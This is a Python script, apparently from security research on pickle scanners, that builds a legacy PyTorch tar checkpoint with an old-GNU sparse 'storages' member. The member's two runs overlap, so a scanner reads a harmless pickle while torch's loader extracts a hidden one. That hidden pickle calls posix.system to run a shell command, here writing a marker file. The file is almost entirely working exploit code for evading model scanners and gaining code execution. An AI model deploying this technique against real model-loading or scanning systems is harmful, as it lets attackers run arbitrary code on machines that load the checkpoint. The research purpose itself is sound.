# Old-GNU sparse 'S' member "storages" whose two sparse runs both start at offset 0.
# torch's legacy_load calls tar.extract('storages'): TarFile.makefile writes run after run
# with target.seek(offset), so the SECOND run overwrites the first. The scanner models sparse
# members as extractfile (_FileInFile) reads them (first run wins) and the stored data linearly;
# a BINBYTES gadget after the benign first run swallows the second run for the opcode walker.
import sys, os, struct; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round3')); from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2
mod, name, arg = (b'builtins', b'print', b'PAYLOAD REACHED') if h else (b'posix', b'system', b'echo PWNED > /tmp/pwned_marker')
def pad_pickle(core_pre, total):
    # core_pre + BINUNICODE pad + POP + K 0 + STOP, total length exact
    tail = b'0K\x00.'
    n = total - len(core_pre) - 5 - len(tail)
    assert n >= 0, (total, len(core_pre))
    return core_pre + b'X' + struct.pack('<I', n) + b'a' * n + tail
D2core = b'\x80\x02c' + mod + b'\n' + name + b'\n' + b'X' + struct.pack('<I', len(arg)) + arg + b'\x85R0'
L2 = 96
D2 = pad_pickle(D2core, L2)                 # count pickle torch loads: runs payload, returns 0
A = pad_pickle(b'\x80\x02', L2)             # benign count 0 (same length)
B = P([])                                   # storage views
G = b'\x80\x02B' + struct.pack('<I', L2)    # walker gadget: BINBYTES swallowing D2
D1 = A + B + G
def sparse_hdr(name, stored, runs, realsize):
    b = bytearray(hdr(name, stored, b'S'))
    b[257:265] = b'ustar  \0'
    pos = 386
    for off, n in runs:
        b[pos:pos+12] = b'%011o\0' % off; b[pos+12:pos+24] = b'%011o\0' % n; pos += 24
    b[482] = 0
    b[483:495] = b'%011o\0' % realsize
    b[148:156] = b' ' * 8
    b[148:156] = b'%06o\0 ' % sum(b)
    return bytes(b)
stored = D1 + D2
f = sparse_hdr(b'storages', len(stored), [(0, len(D1)), (0, len(D2))], len(D1)) + data(stored)
f += member(b'tensors', TENSORS0) + member(b'pickle', P({})) + end()
open(out, 'wb').write(f)
